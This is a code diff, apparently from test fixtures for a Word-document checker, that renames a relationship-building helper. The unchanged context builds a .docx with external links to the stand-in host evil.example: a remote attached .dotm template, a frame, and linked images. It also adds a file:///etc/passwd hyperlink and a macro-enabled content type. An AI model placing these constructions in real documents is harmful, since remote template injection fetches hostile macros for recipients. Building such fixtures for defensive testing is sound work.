@@ -324,7 +324,7 @@ _RELS_NS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/200
 _OFFICE_R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
-def _rels(*relationships: tuple[str, str, str]) -> bytes:
+def relationships_part(*relationships: tuple[str, str, str]) -> bytes:
     return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + _RELS_NS
             + b"".join(f'<Relationship Id="{i}" Type="{_OFFICE_R.decode()}/{t}" Target="{x}" '
                        'TargetMode="External"/>'.encode() for i, t, x in relationships)
@@ -377,12 +377,12 @@ def template_outside_links(folder: Path) -> Path:
     settings = parts["word/settings.xml"]
     parts["word/settings.xml"] = settings.replace(b"<w:zoom ", b'<w:attachedTemplate '
                                                   b'r:id="rIdTemplate"/><w:zoom ', 1)
-    parts["word/_rels/settings.xml.rels"] = _rels(
+    parts["word/_rels/settings.xml.rels"] = relationships_part(
         ("rIdTemplate", "attachedTemplate", "http://evil.example/evil.dotm"))
     parts["word/webSettings.xml"] = parts["word/webSettings.xml"].replace(
         b"<w:allowPNG/>", b'<w:frameset><w:frame><w:name w:val="evil"/><w:sourceFileName '
         b'r:id="rIdFrame"/></w:frame></w:frameset><w:allowPNG/>')
-    parts["word/_rels/webSettings.xml.rels"] = _rels(
+    parts["word/_rels/webSettings.xml.rels"] = relationships_part(
         ("rIdFrame", "frame", "http://evil.example/frame.html"))
     parts["word/document.xml"] = parts["word/document.xml"].replace(
         b"<w:body>", b'<w:body><w:p><w:subDoc r:id="rIdSub"/></w:p>', 1)
@@ -399,13 +399,13 @@ def template_outside_links(folder: Path) -> Path:
     ).replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main"
               b"+xml", b"application/vnd.ms-word.document.macroEnabled.main+xml")
     parts["word/header1.xml"] = _before_end(parts["word/header1.xml"], b"w:hdr", _HEADER_LINKS)
-    parts["word/_rels/header1.xml.rels"] = _rels(
+    parts["word/_rels/header1.xml.rels"] = relationships_part(
         ("rIdPasswd", "hyperlink", "file:///etc/passwd"),
         ("rIdLogo", "image", "http://evil.example/logo.png"),
         ("rIdLinked", "image", "http://evil.example/linked.png"))
     parts["word/footer1.xml"] = _before_end(parts["word/footer1.xml"], b"w:ftr", _FOOTER_LINKS)
-    parts["word/_rels/footer1.xml.rels"] = _rels(("rIdSite", "hyperlink", HOUSE_SITE))
-    parts["word/_rels/styles.xml.rels"] = _rels(("rIdStyles", "image",
+    parts["word/_rels/footer1.xml.rels"] = relationships_part(("rIdSite", "hyperlink", HOUSE_SITE))
+    parts["word/_rels/styles.xml.rels"] = relationships_part(("rIdStyles", "image",
                                                  "http://evil.example/styles"))
     return template_spec(folder, "outside", parts)
 
